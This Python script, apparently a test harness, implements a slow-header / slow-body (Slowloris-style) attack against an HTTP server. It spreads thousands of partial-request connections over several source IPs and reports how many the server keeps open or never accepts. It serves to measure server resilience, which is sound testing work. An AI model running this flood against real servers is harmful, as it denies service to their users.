"""A slow-header (or slow-body) attacker (one process holds at most its open-file limit, so a
test spreads 25,000 sockets over several): argv = MODE HOST PORT COUNT DEADLINE_S SRC_IP
[SRC_IP ...], MODE `header` or `body`. Opens COUNT connections to HOST:PORT, round-robin from
the SRC_IPs, each sending a partial request head (`header`), or a whole head announcing a
body of 100,000 bytes and 10 of them (`body`), and nothing more; prints `opened N in T s`;
then waits until DEADLINE_S after the last one opened and prints `open M` (connections the
server has not closed; connections the server's kernel never queued for accept, whose
bytes it never acknowledged, are counted apart)."""

import socket
import struct
import sys
import time

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
count, deadline = int(sys.argv[4]), float(sys.argv[5])
sources = sys.argv[6:]
IP_BIND_ADDRESS_NO_PORT = 24  # Linux
HEAD = {
    "header": b"GET /health HTTP/1.1\r\nhost: x\r\nx-slow: ",
    "body": b"POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
    b"content-length: 100000\r\n\r\n{\"prompt\":",
}[mode]

socks = []
t0 = time.monotonic()
for i in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # The port is picked at connect (bind(port 0) would scan for a port free for every
    # destination: slow with thousands taken).
    s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    s.bind((sources[i % len(sources)], 0))
    s.settimeout(10)
    s.connect((host, port))
    try:
        s.send(HEAD)
    except OSError:
        pass  # closed at once to make room: still an attacker's socket held here
    socks.append(s)
last = time.monotonic()
print(f"opened {count} in {last - t0:.2f} s", flush=True)
time.sleep(max(0.0, last + deadline - time.monotonic()))
still_open = ghosts = 0
for s in socks:
    s.setblocking(False)
    try:
        # An answer (a 408, a 503) may come before the end: read to the end, or to a wait.
        while s.recv(65536) != b"":
            pass
    except BlockingIOError:
        # Open here. Whether the server ever held it: a connection the kernel completed but
        # could not queue for accept (its queue overflowed under the flood) never had its
        # bytes acknowledged — the server never saw it (tcp_info's unacked count, offset 24).
        info = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 104)
        if struct.unpack_from("I", info, 24)[0] > 0:
            ghosts += 1
        else:
            still_open += 1
    except OSError:
        pass
print(f"open {still_open} (never accepted by the server: {ghosts})", flush=True)
